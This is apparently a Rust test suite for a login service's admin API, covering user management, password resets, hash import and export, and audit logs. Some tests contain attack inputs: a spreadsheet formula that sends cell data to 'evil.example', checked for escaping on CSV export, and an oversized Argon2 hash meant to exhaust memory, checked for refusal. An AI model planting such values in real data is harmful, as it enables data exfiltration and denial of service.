//! The admin API: users, roles, invariants, passwords, import/export, audit, locks.

use base64::Engine;
use bk_auth::testing::spawn_login;
use reqwest::Method;
use serde_json::json;
use sha2::Sha256;

use crate::http_support::{admin_token, client, create_user, get_json, send_json};

#[tokio::test]
async fn create_search_update_disable_delete() {
    let svc = spawn_login().await;
    let admin = admin_token(&svc).await;
    let base = format!("{}/login/api/admin/users/", svc.base_url);
    // Generated password is returned once and works.
    let (s, b) = send_json(
        Method::POST,
        &base,
        &admin,
        json!({"username": "alice", "chname": "爱丽丝", "roles": [2]}),
    )
    .await;
    assert_eq!(s, 200, "{b}");
    let pw = b["data"]["password"].as_str().unwrap().to_owned();
    assert_eq!(b["data"]["user"]["role"], 2);
    assert!(b["data"]["user"].get("password_hash").is_none());
    let alice = svc
        .login("alice", &pw)
        .await
        .expect("generated password works");

    // Duplicate → 409 with the platform envelope.
    let (s, b) = send_json(Method::POST, &base, &admin, json!({"username": "alice"})).await;
    assert_eq!(
        (s, b["code"].clone(), b["result"].clone()),
        (409, json!(1302409), json!(false))
    );
    assert_eq!(b["request_id"].as_str().unwrap().len(), 32);
    // Invalid input names the field.
    let (s, b) = send_json(Method::POST, &base, &admin, json!({"username": "a b"})).await;
    assert_eq!(s, 400);
    assert!(b["message"].as_str().unwrap().contains("username"), "{b}");
    let (s, b) = send_json(
        Method::POST,
        &base,
        &admin,
        json!({"username": "bobby", "email": "nope"}),
    )
    .await;
    assert_eq!(s, 400);
    assert!(b["message"].as_str().unwrap().contains("email"), "{b}");
    let (s, b) = send_json(
        Method::POST,
        &base,
        &admin,
        json!({"username": "bobby", "password": "short"}),
    )
    .await;
    assert_eq!(s, 400);
    assert!(b["message"].as_str().unwrap().contains("at least"), "{b}");

    // Non-superusers are refused.
    let (s, _) = send_json(Method::POST, &base, &alice, json!({"username": "carol"})).await;
    assert_eq!(s, 403);
    let (s, _) = get_json(&base, None).await;
    assert_eq!(s, 401);

    // Search and paging.
    for n in ["bob01", "bob02", "bob03"] {
        create_user(&svc, &admin, n, &[0]).await;
    }
    let (_, b) = get_json(
        &format!("{base}?search=BOB&page=2&page_size=2"),
        Some(&admin),
    )
    .await;
    assert_eq!(b["data"]["count"], 3);
    assert_eq!(b["data"]["results"].as_array().unwrap().len(), 1);
    assert_eq!(b["data"]["results"][0]["username"], "bob03");

    // Disabling revokes tokens at once.
    let (s, b) = send_json(
        Method::PATCH,
        &format!("{base}alice/"),
        &admin,
        json!({"disabled": true, "phone": "+86 123"}),
    )
    .await;
    assert_eq!(s, 200, "{b}");
    assert_eq!(b["data"]["phone"], "+86 123");
    assert_eq!(svc.service.is_login(&alice).await.unwrap(), None);
    assert!(svc.login("alice", &pw).await.is_none());

    // Roles and the invariants.
    let (s, b) = send_json(
        Method::PUT,
        &format!("{base}admin/roles/"),
        &admin,
        json!({"roles": [2]}),
    )
    .await;
    assert_eq!(s, 409, "admin cannot be demoted: {b}");
    let (s, _) = client()
        .delete(format!("{base}admin/"))
        .header("cookie", format!("bk_token={admin}"))
        .send()
        .await
        .map(|r| (r.status().as_u16(), ()))
        .unwrap();
    assert_eq!(s, 409, "admin cannot be deleted");
    let (s, _) = send_json(
        Method::PATCH,
        &format!("{base}admin/"),
        &admin,
        json!({"disabled": true}),
    )
    .await;
    assert_eq!(s, 409, "admin cannot be disabled");
    let (s, b) = send_json(
        Method::PUT,
        &format!("{base}bob01/roles/"),
        &admin,
        json!({"roles": [1, 4]}),
    )
    .await;
    assert_eq!((s, b["data"]["role"].clone()), (200, json!(1)));
    let del = client()
        .delete(format!("{base}bob02/"))
        .header("cookie", format!("bk_token={admin}"))
        .send()
        .await
        .unwrap();
    assert_eq!(del.status(), 200);
    let (s, _) = get_json(&format!("{base}bob02/"), Some(&admin)).await;
    assert_eq!(s, 404);
}

#[tokio::test]
async fn password_reset_revokes_and_self_service_change_works() {
    let svc = spawn_login().await;
    let admin = admin_token(&svc).await;
    let pw = create_user(&svc, &admin, "dave01", &[2]).await;
    let dave = svc.login("dave01", &pw).await.unwrap();
    let (s, b) = send_json(
        Method::POST,
        &format!("{}/login/api/admin/users/dave01/password/", svc.base_url),
        &admin,
        json!({}),
    )
    .await;
    assert_eq!(s, 200);
    let new_pw = b["data"]["password"].as_str().unwrap().to_owned();
    assert_eq!(
        svc.service.is_login(&dave).await.unwrap(),
        None,
        "reset revokes tokens"
    );
    assert!(svc.login("dave01", &pw).await.is_none());
    let dave = svc.login("dave01", &new_pw).await.unwrap();

    // Self-service profile and password.
    let profile = format!("{}/login/api/profile/", svc.base_url);
    let (s, b) = send_json(
        Method::PATCH,
        &profile,
        &dave,
        json!({"chname": "戴夫", "language": "zh-cn"}),
    )
    .await;
    assert_eq!((s, b["data"]["chname"].clone()), (200, json!("戴夫")));
    let (s, _) = send_json(Method::PATCH, &profile, &dave, json!({"disabled": true})).await;
    assert_eq!(s, 400, "users cannot change fields outside their profile");
    let resp = client()
        .post(format!("{profile}password/"))
        .header("cookie", format!("bk_token={dave}"))
        .json(&json!({"old_password": "wrong", "new_password": "Another-pass-1"}))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 400);
    let resp = client()
        .post(format!("{profile}password/"))
        .header("cookie", format!("bk_token={dave}"))
        .json(&json!({"old_password": new_pw, "new_password": "Another-pass-1"}))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    let fresh = bk_auth::testing::cookie(&resp, "bk_token").expect("a new token for the caller");
    assert_eq!(svc.service.is_login(&dave).await.unwrap(), None);
    assert_eq!(
        svc.service.is_login(&fresh).await.unwrap().as_deref(),
        Some("dave01")
    );
    assert!(svc.login("dave01", "Another-pass-1").await.is_some());
}

fn django_hash(password: &str, salt: &str, iterations: u32) -> String {
    let mut out = [0u8; 32];
    pbkdf2::pbkdf2_hmac::<Sha256>(password.as_bytes(), salt.as_bytes(), iterations, &mut out);
    format!(
        "pbkdf2_sha256${iterations}${salt}${}",
        base64::engine::general_purpose::STANDARD.encode(out)
    )
}

#[tokio::test]
async fn import_django_hashes_upgrade_on_login_and_export_round_trips() {
    let svc = spawn_login().await;
    let admin = admin_token(&svc).await;
    let import = format!("{}/login/api/admin/import/", svc.base_url);
    let csv = format!(
        "username,chname,email,roles,password_hash\nlegacy1,老用户,l1@corp.example,2,{}\nlegacy2,,,0;4,\n",
        django_hash("v6-password", "abcdefgh", 1000)
    );
    let resp = client()
        .post(&import)
        .header("cookie", format!("bk_token={admin}"))
        .header("content-type", "text/csv")
        .body(csv)
        .send()
        .await
        .unwrap();
    let b: serde_json::Value = resp.json().await.unwrap();
    assert_eq!(b["data"]["created"], 2, "{b}");
    assert!(
        svc.login("legacy1", "v6-password").await.is_some(),
        "Django hash logs in"
    );
    let stored = svc
        .service
        .find_user("legacy1")
        .await
        .unwrap()
        .unwrap()
        .password_hash
        .unwrap();
    assert!(
        stored.starts_with("$argon2id$"),
        "upgraded on login: {stored}"
    );
    assert!(
        svc.login("legacy1", "v6-password").await.is_some(),
        "still logs in after the upgrade"
    );

    // A bad row rejects the whole file and writes nothing.
    let bad = json!([{"username": "fresh01"}, {"username": "x"}, {"username": "fresh02", "password_hash": "md5$zzz"}]);
    let resp = client()
        .post(&import)
        .header("cookie", format!("bk_token={admin}"))
        .json(&bad)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 400);
    let b: serde_json::Value = resp.json().await.unwrap();
    let msg = b["message"].as_str().unwrap();
    assert!(
        msg.contains("row 2") && msg.contains("row 3") && msg.contains("nothing was written"),
        "{msg}"
    );
    assert!(svc.service.find_user("fresh01").await.unwrap().is_none());
    // Wrong content type.
    let resp = client()
        .post(&import)
        .header("cookie", format!("bk_token={admin}"))
        .body("x")
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 415);

    // Export as CSV and JSON.
    let csv = client()
        .get(format!(
            "{}/login/api/admin/export/?format=csv",
            svc.base_url
        ))
        .header("cookie", format!("bk_token={admin}"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(csv.starts_with("username,"), "{csv}");
    assert!(csv.contains("legacy2") && csv.contains("0;4") && csv.contains("老用户"));
    assert!(!csv.contains("argon2"), "hashes only on request");
    let (_, all) = get_json(
        &format!(
            "{}/login/api/admin/export/?include_hashes=true",
            svc.base_url
        ),
        Some(&admin),
    )
    .await;
    let l1 = all
        .as_array()
        .unwrap()
        .iter()
        .find(|u| u["username"] == "legacy1")
        .unwrap();
    assert!(
        l1["password_hash"]
            .as_str()
            .unwrap()
            .starts_with("$argon2id$")
    );
}

#[tokio::test]
async fn audit_log_is_readable_by_auditors_only() {
    let svc = spawn_login().await;
    let admin = admin_token(&svc).await;
    let pw = create_user(&svc, &admin, "auditor1", &[4]).await;
    let dev_pw = create_user(&svc, &admin, "dev0001", &[2]).await;
    assert!(svc.login("dev0001", "wrong").await.is_none());
    let auditor = svc.login("auditor1", &pw).await.unwrap();
    let url = format!("{}/login/api/admin/audit/?username=dev0001", svc.base_url);
    let (s, b) = get_json(&url, Some(&auditor)).await;
    assert_eq!(s, 200, "{b}");
    let first = &b["data"]["results"][0];
    assert_eq!(first["result"], "bad_credentials");
    assert!(first["address"].as_str().unwrap().starts_with("127.0.0.1"));
    assert!(first["user_agent"].is_string());
    let dev = svc.login("dev0001", &dev_pw).await.unwrap();
    let (s, _) = get_json(&url, Some(&dev)).await;
    assert_eq!(s, 403);
    let (_, b) = get_json(&format!("{url}&result=success"), Some(&auditor)).await;
    assert_eq!(b["data"]["count"], 1);
    let (s, _) = get_json(&format!("{url}&result=bogus"), Some(&auditor)).await;
    assert_eq!(s, 400);
}

async fn import(
    svc: &bk_auth::testing::TestLogin,
    token: &str,
    content_type: &str,
    body: String,
    overwrite: bool,
) -> (u16, serde_json::Value) {
    let resp = client()
        .post(format!(
            "{}/login/api/admin/import/?overwrite={overwrite}",
            svc.base_url
        ))
        .header("cookie", format!("bk_token={token}"))
        .header("content-type", content_type)
        .body(body)
        .send()
        .await
        .unwrap();
    (resp.status().as_u16(), resp.json().await.unwrap())
}

async fn export(svc: &bk_auth::testing::TestLogin, token: &str, format: &str) -> String {
    client()
        .get(format!(
            "{}/login/api/admin/export/?format={format}&include_hashes=true",
            svc.base_url
        ))
        .header("cookie", format!("bk_token={token}"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap()
}

#[tokio::test]
async fn argon2_hashes_above_the_cost_cap_are_refused_and_never_verified() {
    let dir = tempfile::tempdir().unwrap();
    let db = bk_core::db::Db::connect(
        &format!("sqlite://{}", dir.path().join("login.db").display()),
        &bk_core::db::DbOptions::default(),
    )
    .await
    .unwrap();
    let svc = bk_auth::testing::spawn_on(
        db.clone(),
        bk_auth::testing::test_config(),
        bk_core::clock::system(),
        dir,
    )
    .await;
    let admin = admin_token(&svc).await;
    let bomb = "$argon2id$v=19$m=4294967295,t=1,p=1$c2FsdHNhbHQ$aGFzaGhhc2hoYXNoaGFzaA";
    let body = json!([{"username": "fine0001"}, {"username": "bomb0001", "password_hash": bomb}]);
    let (s, b) = import(&svc, &admin, "application/json", body.to_string(), false).await;
    assert_eq!(s, 400, "{b}");
    let msg = b["message"].as_str().unwrap();
    assert!(
        msg.contains("row 2")
            && msg.contains("m=4294967295")
            && msg.contains("nothing was written"),
        "{msg}"
    );
    assert!(svc.service.find_user("fine0001").await.unwrap().is_none());

    // A hash planted in the store behind the import's back is never verified: the right
    // password of a hash made at 5x the configured memory does not log in, and a
    // terabyte-sized one fails at once without allocating it.
    let heavy = bk_auth::password::Hasher::new(&bk_auth::config::Argon2Config {
        memory_kib: 5 * 1024,
        iterations: 1,
        parallelism: 1,
        max_concurrent: 1,
    })
    .unwrap();
    let stored = std::sync::Arc::new(heavy)
        .hash("Planted-pass-1")
        .await
        .unwrap();
    let store = bk_auth::store::sql::SqlStore::new(db);
    use bk_auth::store::UserStore;
    for (name, hash) in [("heavy001", stored.as_str()), ("bomb0002", bomb)] {
        let mut u = bk_auth::model::NewUser {
            username: name.into(),
            source: "local".into(),
            ..Default::default()
        };
        u.password_hash = Some(hash.into());
        store.create(u, 0).await.unwrap();
    }
    assert!(svc.login("heavy001", "Planted-pass-1").await.is_none());
    assert!(svc.login("bomb0002", "anything").await.is_none());
    assert_eq!(
        svc.service
            .find_user("heavy001")
            .await
            .unwrap()
            .unwrap()
            .password_hash
            .as_deref(),
        Some(stored.as_str()),
        "not upgraded either"
    );
}

#[tokio::test]
async fn csv_export_escapes_formulas_and_exports_re_import_to_the_same_users() {
    let svc = spawn_login().await;
    let admin = admin_token(&svc).await;
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    let pw = create_user(&svc, &admin, "mallory1", &[0]).await;
    let mallory = svc.login("mallory1", &pw).await.unwrap();
    let (s, _) = send_json(
        Method::PATCH,
        &format!("{}/login/api/profile/", svc.base_url),
        &mallory,
        json!({"chname": evil, "phone": "+86 138 0000 0000"}),
    )
    .await;
    assert_eq!(s, 200);
    for (name, roles) in [
        ("alice001", vec![1, 2]),
        ("bob00001", vec![4]),
        ("carol001", vec![]),
    ] {
        create_user(&svc, &admin, name, &roles).await;
    }
    send_json(
        Method::PATCH,
        &format!("{}/login/api/admin/users/carol001/", svc.base_url),
        &admin,
        json!({"disabled": true, "wx_userid": "-wx", "email": "@x@corp.example"}),
    )
    .await;
    let csv = export(&svc, &admin, "csv").await;
    let line = csv.lines().find(|l| l.starts_with("mallory1,")).unwrap();
    assert!(line.contains("'=HYPERLINK("), "{line}");
    assert!(line.contains("'+86 138"), "{line}");
    assert!(
        !csv.lines().any(|l| l
            .split(',')
            .any(|c| c.trim_start_matches('"').starts_with(['=', '+', '-', '@']))),
        "no cell starts a formula: {csv}"
    );
    let json_export = export(&svc, &admin, "json").await;

    // Each export into a fresh service gives back the same users (hashes included).
    for (format, content_type, body) in [
        ("csv", "text/csv", csv.clone()),
        ("json", "application/json", json_export.clone()),
    ] {
        let other = spawn_login().await;
        let other_admin = admin_token(&other).await;
        let (s, b) = import(&other, &other_admin, content_type, body, true).await;
        assert_eq!(s, 200, "{format}: {b}");
        // The import replaced admin's hash by the first service's: log in again.
        let other_admin = admin_token(&other).await;
        assert_eq!(
            export(&other, &other_admin, format).await,
            if format == "csv" {
                csv.clone()
            } else {
                json_export.clone()
            },
            "{format} round trip"
        );
        let m = other.service.find_user("mallory1").await.unwrap().unwrap();
        assert_eq!(
            (m.chname.as_str(), m.phone.as_str()),
            (evil, "+86 138 0000 0000")
        );
        assert!(
            other.login("mallory1", &pw).await.is_some(),
            "{format}: hash kept"
        );
    }
}
